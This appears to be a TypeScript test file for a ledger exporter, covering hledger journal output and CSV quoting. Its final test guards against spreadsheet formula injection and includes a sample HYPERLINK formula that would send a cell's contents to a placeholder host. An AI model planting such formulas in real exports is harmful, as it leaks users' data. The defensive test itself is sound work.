import { describe, expect, it } from 'vitest';
import { csvField, journalCsvRows } from './csv-format';
import type { ExportedTransaction } from './exported-transaction';
import { hledgerClosingAssertions, hledgerPreamble, hledgerTransaction } from './hledger-format';

const transaction: ExportedTransaction = {
  id: '0191a1b2-0000-7000-8000-000000000001',
  stripe: 3,
  seq: 7n,
  hash: 'ab'.repeat(32),
  status: 'posted',
  effectiveAt: new Date('2026-11-29T23:59:59.999Z'),
  externalRef: 'order-7',
  description: 'line one\nline two; "quoted", done',
  holdId: null,
  reversesId: null,
  conversion: null,
  entries: [
    { leg: 0, account: 'assets:bank', direction: 'debit', pending: false, amountMinor: 1005n, currency: 'USD' },
    { leg: 1, account: 'liabilities:alice', direction: 'credit', pending: false, amountMinor: 1005n, currency: 'USD' },
    { leg: 2, account: 'assets:bank:jpy', direction: 'debit', pending: false, amountMinor: 150n, currency: 'JPY' },
    { leg: 3, account: 'equity:fx:jpy', direction: 'credit', pending: false, amountMinor: 150n, currency: 'JPY' },
  ],
};

describe('hledger format', () => {
  it('writes exact decimals, debits positive, each currency on its own, on one description line', () => {
    expect(hledgerTransaction(transaction)).toBe(
      [
        '2026-11-29 * (0191a1b2-0000-7000-8000-000000000001) order-7 - line one line two, "quoted", done',
        `    ; posted, journal stripe 3 seq 7 hash ${'ab'.repeat(32)}`,
        '    assets:bank  10.05 USD',
        '    liabilities:alice  -10.05 USD',
        '    assets:bank:jpy  150 JPY',
        '    equity:fx:jpy  -150 JPY',
        '',
        '',
      ].join('\n'),
    );
  });

  it('prices the from-currency postings of a conversion with the posted to amount, and only a conversion', () => {
    const conversion: ExportedTransaction = {
      ...transaction,
      externalRef: 'fx-1',
      description: null,
      conversion: { fromCurrency: 'EUR', toCurrency: 'USD', rate: '1.08230', rounding: 'half-even', remainder: '0' },
      entries: [
        { leg: 0, account: 'alice:eur', direction: 'debit', pending: false, amountMinor: 10000n, currency: 'EUR' },
        {
          leg: 1,
          account: 'fx:position:EUR',
          direction: 'credit',
          pending: false,
          amountMinor: 10000n,
          currency: 'EUR',
        },
        {
          leg: 2,
          account: 'fx:position:USD',
          direction: 'debit',
          pending: false,
          amountMinor: 10823n,
          currency: 'USD',
        },
        { leg: 3, account: 'alice:usd', direction: 'credit', pending: false, amountMinor: 10823n, currency: 'USD' },
      ],
    };
    expect(hledgerTransaction(conversion)).toBe(
      [
        '2026-11-29 * (0191a1b2-0000-7000-8000-000000000001) fx-1',
        `    ; posted, journal stripe 3 seq 7 hash ${'ab'.repeat(32)}`,
        '    ; conversion EUR to USD at 1.08230, rounded half-even, remainder 0 minor units',
        '    alice:eur  100.00 EUR @@ 108.23 USD',
        '    fx:position:EUR  -100.00 EUR @@ 108.23 USD',
        '    fx:position:USD  108.23 USD',
        '    alice:usd  -108.23 USD',
        '',
        '',
      ].join('\n'),
    );
    // Metadata naming currencies the entries do not have, or entries of another shape: no price.
    const claimed = {
      ...transaction,
      conversion: { ...conversion.conversion!, fromCurrency: 'EUR', toCurrency: 'JPY' },
    };
    expect(hledgerTransaction(claimed)).toBe(hledgerTransaction(transaction));
    const uneven = {
      ...conversion,
      entries: conversion.entries.map((e) => (e.leg === 1 ? { ...e, amountMinor: 1n } : e)),
    };
    expect(hledgerTransaction(uneven)).not.toContain('@@');
  });

  it('leaves out a hold (pending entries only), names a capture, and declares what --strict needs', () => {
    const hold = {
      ...transaction,
      status: 'pending',
      entries: transaction.entries.map((entry) => ({ ...entry, pending: true })),
    };
    expect(hledgerTransaction(hold)).toBeUndefined();
    expect(
      hledgerTransaction({ ...transaction, externalRef: null, description: null, holdId: transaction.id }),
    ).toMatch(/\) capture of hold 0191a1b2/);
    const accounts = [
      { code: 'assets:bank:bhd', currency: 'BHD', postedDebits: 1234n, postedCredits: 1n },
      { code: 'assets:bank:jpy', currency: 'JPY', postedDebits: 0n, postedCredits: 0n },
    ];
    expect(hledgerPreamble('title', accounts)).toContain(
      'commodity 1000.000 BHD\ncommodity 1000. JPY\n\naccount assets:bank:bhd\naccount assets:bank:jpy\n',
    );
    expect(hledgerClosingAssertions(new Date('2026-11-30T10:00:00Z'), accounts)).toContain(
      '    assets:bank:bhd  0 BHD = 1.233 BHD\n    assets:bank:jpy  0 JPY = 0 JPY',
    );
  });
});

describe('CSV format', () => {
  it('quotes only what needs it, doubling quotes, and writes one row per entry', () => {
    expect(csvField('plain')).toBe('plain');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField(null)).toBe('');
    const rows = journalCsvRows(transaction)
      .split('\r\n')
      .filter((row) => row);
    expect(rows).toHaveLength(4);
    expect(rows[0]).toContain(',"line one\nline two; ""quoted"", done",0,assets:bank,debit,false,10.05,USD,1005');
  });

  it('neutralises a text a spreadsheet would run as a formula, and leaves plain numbers alone', () => {
    for (const start of ['=', '+', '-', '@', '\t', '\r', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20'])
      expect(csvField(`${start}1+1`), JSON.stringify(start)).toBe(`"'${start}1+1"`);
    expect(csvField('=HYPERLINK("https://x/?"&A2,"open")')).toBe('"\'=HYPERLINK(""https://x/?""&A2,""open"")"');
    expect(csvField('-7950')).toBe('-7950');
    expect(csvField('-79.50')).toBe('-79.50');
    expect(csvField(-7950n)).toBe('-7950');
    expect(csvField('-79.')).toBe(`"'-79."`);
    expect(csvField('-1e3')).toBe(`"'-1e3"`);
    expect(csvField('a=b')).toBe('a=b');
    expect(csvField(' =1')).toBe(' =1');
  });
});
